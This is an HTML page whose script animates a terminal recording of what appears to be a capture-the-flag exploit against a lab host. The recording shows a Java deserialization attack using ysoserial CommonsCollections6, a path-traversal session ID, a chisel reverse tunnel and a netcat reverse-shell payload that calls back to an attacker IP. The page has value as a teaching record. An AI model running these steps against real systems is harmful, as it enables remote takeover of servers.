
Animation, 1104 px wide and 507 px high, one loop 8000 ms. Source, as an HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #2e3436; }
svg { display: block; }
text {
  font-family: "DejaVu Sans Mono", monospace;
  font-size: 14.46px;
  white-space: pre;
  text-rendering: geometricPrecision;
}
</style>
</head>
<body>
<svg id="stage" width="1104" height="507" viewBox="0 0 1104 507">
  <rect width="1104" height="507" fill="#2e3436"/>
  <g id="screen"></g>
  <rect id="cursor" width="8.875" height="17.75" fill="#d3d7cf"/>
  <rect y="504" width="1104" height="1" fill="#4e9a06"/>
  <rect x="1103" width="1" height="504" fill="#4a5052"/>
</svg>
<script>
const LOOP = 8000, COLS = 124;
const CELL_W = 8.875, CELL_H = 17.75, LEFT = -2, TOP = -1.75, BASE = 13.8;
const WHITE = '#d3d7cf', RED = '#cc0000', BLUE = '#3465a4', GREEN = '#4e9a06',
      YELLOW = '#c4a000', PURPLE = '#75507b', SLATE = '#5c6390';
const NS = 'http://www.w3.org/2000/svg';
const screenEl = document.getElementById('screen');
const cursorEl = document.getElementById('cursor');

// A run is [text, colour, bold]; a line is a list of runs.
const plain = text => [[text, WHITE]];
const log = (sec, msg) => [
  ['2020-09-02 01:56:' + sec, GREEN], ['-', WHITE], ['host', PURPLE], ['-' + msg, WHITE]
];
const status = (mark, colour, msg) => [['[', WHITE], [mark, colour, true], ['] ' + msg, WHITE]];
const creating = (sec, n) => log(sec, `Creating phase${n} payload`);
const upload = sec => [
  'Uploading serialized payload..',
  'Writing shell to filename: testas1.session',
  'Status code 200',
  'Triggering Deserialization',
  'Making request to: http://10.129.4.80:8080/ with JSESSIONID: ' + '../'.repeat(6) + 'opt/samples/uploads/testas1'
].map(msg => log(sec, msg));

const command = [
  ['user@host', RED, true], [':', WHITE], ['~/hitb/feline', BLUE, true],
  ['# python3 pig-felinePwn.py  -i 10.10.14.33 -p 4444 -t user -s 8443 -fh 10.129.4.80 -c 8000', WHITE]
];
const warnings = [
  'An illegal reflective access operation has occurred',
  'Illegal reflective access by ysoserial.payloads.CommonsCollections6 (file:/user/hitb/feline/ysoserial-master-SNAPSHOT.jar) to field java.util.HashSet.map',
  'Please consider reporting this to the maintainers of ysoserial.payloads.CommonsCollections6',
  'Use --illegal-access=warn to enable warnings of further illegal reflective access operations',
  'All illegal access operations will be denied in a future release'
].map(msg => plain('WARNING: ' + msg));

// Output blocks with the time each is printed.
const WAIT_ROW = 5, SCROLL_AT = 6150, SCROLL_ROWS = 9;
const output = [
  [0, [command]],
  [1110, [log(47, '[+] Saving key to file: feline-user.key')]],
  [1200, [
    [['1. Start chisel with ./chisel -p <any port e.g. 8000> --reverse', YELLOW]],
    plain('>>>Press any key to continue the step<<<')
  ]],
  [2600, [
    status('+', GREEN, 'Trying to bind to 0.0.0.0 on port 4444: Done'),
    [],
    log(49, 'Writing shell to filename: dada.sh'),
    log(49, 'Payload is: rm /tmp/f2;mkfifo /tmp/f2;cat /tmp/f2|/bin/sh -i 2>&1|nc 10.10.14.33 4444 >/tmp/f2'),
    [],
    creating(49, 1)
  ]],
  [2790, upload(49)],
  [5770, [creating(52, 2)]],
  [5960, [...upload(52), creating(52, 3)]],
  [SCROLL_AT, [...warnings, ...upload(52)]]
];

// Cursor [time, column, row]; column -1 hides it.
const cursorMoves = [[0, -1, 0], [80, 113, 0], [840, 0, 1], [1110, 0, 2], [1200, 40, 3], [2600, -1, 0]];

// Spinner bursts [start, step].
const bursts = [[2600, 94], [3436, 97], [4190, 94], [5040, 90], [5770, 95]];

const latest = (list, t) => list.filter(item => item[0] <= t).pop();

function spinner(t) {
  if (t >= 3350 && t < 3436) return '.';
  const [start, step] = latest(bursts, t);
  return '.oOo.'[Math.floor((t - start) / step)] || ' ';
}

function wrap(line) {
  const rows = [[]];
  let col = 0;
  for (const [text, colour, bold] of line) {
    for (let i = 0; i < text.length;) {
      if (col === COLS) { rows.push([]); col = 0; }
      const part = text.slice(i, i + COLS - col);
      rows[rows.length - 1].push({ text: part, colour, bold, col });
      col += part.length;
      i += part.length;
    }
  }
  return rows;
}

function rowsAt(t) {
  const lines = output.filter(([time]) => time <= t).flatMap(([, block]) => block);
  const rows = lines.flatMap(wrap);
  const waiting = 'Waiting for connections on 0.0.0.0:4444';
  if (t >= SCROLL_AT) {
    rows.splice(0, SCROLL_ROWS);
    rows[2] = wrap(status('+', GREEN, waiting + ': Got connection from 10.129.4.80 on port 35518'))[0];
  } else if (t >= 2600) {
    const tint = t < 3000 || t >= 5770 ? SLATE : BLUE;
    rows[WAIT_ROW] = wrap(status(spinner(t), tint, waiting))[0];
  }
  return rows;
}

function drawRun(run, row) {
  const el = document.createElementNS(NS, 'text');
  el.setAttribute('x', [...run.text].map((_, i) => LEFT + (run.col + i) * CELL_W).join(' '));
  el.setAttribute('y', TOP + row * CELL_H + BASE);
  el.setAttribute('fill', run.colour);
  if (run.bold) el.setAttribute('font-weight', 'bold');
  el.textContent = run.text;
  return el;
}

let shown = '';
function render(t) {
  const rows = rowsAt(t);
  const key = JSON.stringify(rows);
  if (key !== shown) {
    shown = key;
    screenEl.replaceChildren(...rows.flatMap((runs, row) => runs.map(run => drawRun(run, row))));
  }
  const [, col, row] = latest(cursorMoves, t);
  cursorEl.setAttribute('visibility', col < 0 ? 'hidden' : 'visible');
  cursorEl.setAttribute('x', LEFT + col * CELL_W);
  cursorEl.setAttribute('y', TOP + row * CELL_H);
}

const began = performance.now();
function tick() {
  render((performance.now() - began) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
